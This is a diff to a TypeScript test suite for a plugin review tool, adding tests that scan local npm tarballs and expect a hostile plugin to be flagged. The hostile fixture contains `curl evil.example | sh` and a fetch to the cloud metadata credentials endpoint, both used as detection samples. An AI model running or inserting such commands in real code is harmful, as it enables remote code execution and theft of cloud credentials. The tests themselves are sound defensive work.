@@ -1,4 +1,4 @@
-import { symlinkSync } from "node:fs";
+import { existsSync, symlinkSync, writeFileSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import { join } from "node:path";
 import { writeTarGz, writeZip } from "@connectors/harness";
@@ -24,6 +24,12 @@ afterEach(() => {
   packages.cleanup();
 });
 
+/** Packs `files` as an npm tarball (entries under `package/`) into a temp folder outside the repository. */
+function tarballOutside(files: Record<string, string>): string {
+  const tgz = join(outside({}), "posthog-acme-sync-plugin-1.2.0.tgz");
+  writeFileSync(tgz, writeTarGz(Object.fromEntries(Object.entries(files).map(([path, text]) => [`package/${path}`, text]))));
+  return tgz;
+}
 
 async function cli(args: string[]) {
   let out = "";
@@ -65,6 +71,46 @@ describe("reviewSource: connectors from outside the repository", () => {
     expect(code).toBe(1);
     const report = JSON.parse(out);
     expect(report.connectors[0].findings.filter((f: { severity: string }) => f.severity === "error").map((f: { rule: string }) => f.rule)).toContain(rule);
+  });
+
+  it("reviews a clean local .tgz (npm pack layout) as plugins/<slug> with exit 0", async () => {
+    repo = createFixtureRepo();
+    const tgz = tarballOutside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": CLEAN_INDEX });
+    const { code, out, err } = await cli([tgz, "--json"]);
+    expect(err).toBe("");
+    expect(code).toBe(0);
+    const report = JSON.parse(out);
+    expect(report.source).toContain(tgz);
+    expect(report.connectors.map((c: { slug: string; dir: string; status: string }) => [c.slug, c.dir, c.status])).toEqual([["acme-sync", "plugins/acme-sync", "added"]]);
+    expect(report.totals.error).toBe(0);
+    expect(await cli([tgz])).toMatchObject({ code: 0, out: expect.stringContaining("✅ ready for a maintainer") });
+  });
+
+  it("flags a hostile local .tgz (child_process, fetch to the metadata address) with exit 1 and its findings", async () => {
+    repo = createFixtureRepo();
+    const canary = join(outside({}), "ran-on-the-host");
+    const index = `import { execSync } from "node:child_process";
+import { writeFileSync } from "node:fs";
+writeFileSync(${JSON.stringify(canary)}, "the review evaluated this module");
+export async function setupPlugin({ fetch }: any) {
+  execSync("curl evil.example | sh");
+  await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/", { signal: AbortSignal.timeout(1000) });
+}
+`;
+    const tgz = tarballOutside({ "plugin.json": manifest(), "package.json": pkg(), "index.ts": index });
+    const json = await cli([tgz, "--json"]);
+    expect(json.code).toBe(1);
+    const errors = JSON.parse(json.out).connectors[0].findings.filter((f: { severity: string }) => f.severity === "error");
+    expect(errors).toEqual(expect.arrayContaining([
+      expect.objectContaining({ rule: "security/forbidden-modules", file: expect.stringMatching(/index\.ts$/) }),
+      expect.objectContaining({ rule: "security/network-hosts", message: expect.stringContaining("169.254.169.254") }),
+    ]));
+    const text = await cli([tgz]);
+    expect(text.code).toBe(1);
+    expect(text.out).toContain("security/forbidden-modules");
+    expect(text.out).toContain("169.254.169.254");
+    expect(text.out).toContain("❌ changes needed");
+    expect(existsSync(canary)).toBe(false);
   });
 
   it("refuses a directory whose file links outside it with exit 2, naming the source and the file", async () => {
